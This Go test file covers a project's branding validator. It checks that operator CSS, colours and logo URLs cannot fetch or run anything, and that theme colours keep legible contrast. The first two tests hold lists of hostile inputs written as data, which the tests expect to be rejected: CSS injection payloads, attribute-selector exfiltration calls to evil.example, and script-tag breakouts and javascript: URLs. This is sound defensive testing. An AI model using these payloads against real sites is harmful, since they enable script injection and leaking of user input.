package screens

import (
	"math/rand/v2"
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/foyer-id/foyer/internal/colour"
)

// HD5: an operator's sheet fetches nothing and runs nothing (CVE-2026-5468).
func TestHD5_BrandingCannotFetchOrRun(t *testing.T) {
	t.Parallel()
	for _, css := range []string{
		`body{background:url(https://evil.example/x)}`,
		`input[value^=a]{background:URL( "//evil.example/a" )}`,
		`@import "https://evil.example/x.css";`,
		`@IMPORT 'x';`,
		`a{width:expression(alert(1))}`,
		`</style><script>alert(1)</script>`,
		`a{background:\75 rl(x)}`,
		`a{background:image-set("https://evil.example/x" 1x)}`,
		`a{background:-webkit-image-set("https://evil.example/x" 1x)}`,
		`a{background:cross-fade("https://evil.example/x", red)}`,
		`@font-face{src:src("https://evil.example/x")}`,
		`a{behavior:x}`, `a{-moz-binding:x}`,
		"a{\x00}", strings.Repeat("a", maxBrandCSS+1),
	} {
		b := Brand{CSS: css}
		if len(ValidateBrand(b)) == 0 {
			t.Errorf("%.60q passed", css)
		}
		if got := ThemeCSS(b); len(got) != 0 {
			t.Errorf("%.60q was used: %s", css, got)
		}
	}
	good := Brand{CSS: ".card{border-radius:0}\n", Accent: "#fC0", Background: "#0b3d2e", LogoURL: "/logo.svg"}
	if wrong := ValidateBrand(good); len(wrong) != 0 {
		t.Errorf("refused: %v", wrong)
	}
	if got := string(ThemeCSS(good)); !strings.HasSuffix(got, good.CSS) || !strings.Contains(got, "--accent:#ffcc00;") {
		t.Errorf("theme: %s", got)
	}
}

func TestHD5_ColoursAndLogosAreChecked(t *testing.T) {
	t.Parallel()
	for _, bad := range []string{"red", "#12", "#12345", "#1234567", "#gggggg", "#123;}body{x", "rgb(0,0,0)", "#-12345", "#+1234f"} {
		if len(ValidateBrand(Brand{Accent: bad})) != 1 || len(ValidateBrand(Brand{Background: bad})) != 1 {
			t.Errorf("colour %q passed", bad)
		}
		if got := ThemeCSS(Brand{Accent: bad, Background: bad}); len(got) != 0 {
			t.Errorf("colour %q was used: %s", bad, got)
		}
	}
	for address, ok := range map[string]bool{
		"https://cdn.example/l.svg": true, "/l.svg": true, "/a/l.png?v=2": true,
		"http://cdn.example/l.svg": false, "//cdn.example/l.svg": false, "l.svg": false, "javascript:alert(1)": false,
		"data:image/svg+xml,x": false, "https://u:p@cdn.example/": false, "https:/l.svg": false, `/\cdn.example/l`: false,
		"https://a.example/x; script-src *": false, "https://%zz/": false,
	} {
		if got := (Brand{LogoURL: address}).Logo() == address; got != ok {
			t.Errorf("logo %q: shown %v, want %v", address, got, ok)
		}
		if got := len(ValidateBrand(Brand{LogoURL: address})) == 0; got != ok {
			t.Errorf("logo %q: valid %v, want %v", address, got, ok)
		}
	}
}

var token = regexp.MustCompile(`--([a-z-]+):\s*(#[0-9a-f]{3,6})`)

func readTokens(t *testing.T, css string) map[string]colour.Colour {
	t.Helper()
	all := map[string]colour.Colour{}
	for _, m := range token.FindAllStringSubmatch(css, -1) {
		c, ok := colour.Parse(m[2])
		if !ok {
			t.Fatalf("%s is no colour", m[2])
		}
		all[m[1]] = c
	}
	return all
}

func atLeast(t *testing.T, what string, ratio float64, a, b colour.Colour) {
	t.Helper()
	if got := colour.Contrast(a, b); got < ratio {
		t.Errorf("%s: %s on %s is %.2f:1, want %.1f", what, a, b, got, ratio)
	}
}

func TestDefaultColoursAreLegible(t *testing.T) {
	t.Parallel()
	source, err := os.ReadFile("assets/foyer.css")
	if err != nil {
		t.Fatal(err)
	}
	css, _, _ := strings.Cut(string(source), "box-sizing")
	light, dark, _ := strings.Cut(css, "@media")
	schemes := map[string]map[string]colour.Colour{"light": readTokens(t, light), "dark": readTokens(t, light+dark)}
	if schemes["light"]["surface"] != colour.LightSurface || schemes["light"]["ground"] != colour.LightGround || schemes["dark"]["surface"] != colour.DarkSurface || schemes["dark"]["ground"] != colour.DarkGround {
		t.Error("package colour and foyer.css do not agree on the surfaces")
	}
	for name, s := range schemes {
		atLeast(t, name+" button", colour.TextContrast, s["accent-ink"], s["accent"])
		atLeast(t, name+" button under the pointer", colour.TextContrast, s["accent-ink"], s["accent-hover"])
		atLeast(t, name+" button's edge", colour.EdgeContrast, s["accent-edge"], s["surface"])
		atLeast(t, name+" edge", colour.EdgeContrast, s["edge"], s["surface"])
		atLeast(t, name+" footer", colour.TextContrast, s["ground-ink"], s["ground"])
		for _, ink := range []string{"ink", "ink-soft", "link", "danger", "good"} {
			atLeast(t, name+" "+ink, colour.TextContrast, s[ink], s["surface"])
			atLeast(t, name+" "+ink, colour.TextContrast, s[ink], s["ground"])
		}
		for _, tone := range []string{"danger", "good", "link"} {
			atLeast(t, name+" "+tone+" on its tint", colour.TextContrast, s[tone], colour.Mix(s["surface"], s[tone], 0.07))
		}
		atLeast(t, name+" initials", colour.TextContrast, s["link"], tint(s["accent"], s["surface"]))
	}
}

func TestAnyAccentIsLegible(t *testing.T) {
	t.Parallel()
	r := rand.New(rand.NewPCG(3, 4))
	rgb := func(r, g, b uint8) colour.Colour { return colour.Colour{R: r, G: g, B: b} }
	accents := []colour.Colour{colour.White, colour.Black, rgb(255, 204, 0), rgb(127, 127, 127), rgb(118, 118, 118), rgb(0, 0, 255), rgb(0, 255, 0), rgb(24, 27, 34)}
	for range 500 {
		accents = append(accents, rgb(uint8(r.UintN(256)), uint8(r.UintN(256)), uint8(r.UintN(256))))
	}
	for i, accent := range accents {
		background := accents[len(accents)-1-i]
		light, dark, found := strings.Cut(string(ThemeCSS(Brand{Accent: accent.String(), Background: background.String()})), "@media")
		if !found {
			t.Fatal("no dark half")
		}
		checkTheme(t, readTokens(t, light), colour.LightSurface, colour.LightGround)
		checkTheme(t, readTokens(t, dark), colour.DarkSurface, colour.DarkGround)
	}
}

func checkTheme(t *testing.T, s map[string]colour.Colour, surface, ground colour.Colour) {
	t.Helper()
	atLeast(t, "button", colour.TextContrast, s["accent-ink"], s["accent"])
	atLeast(t, "button under the pointer", colour.TextContrast, s["accent-ink"], s["accent-hover"])
	atLeast(t, "button's edge", colour.EdgeContrast, s["accent-edge"], surface)
	atLeast(t, "link", colour.TextContrast, s["link"], surface)
	atLeast(t, "link on the ground", colour.TextContrast, s["link"], ground)
	atLeast(t, "initials", colour.TextContrast, s["link"], tint(s["accent"], surface))
	if background, themed := s["ground"]; themed {
		atLeast(t, "footer", colour.TextContrast, s["ground-ink"], background)
	}
}
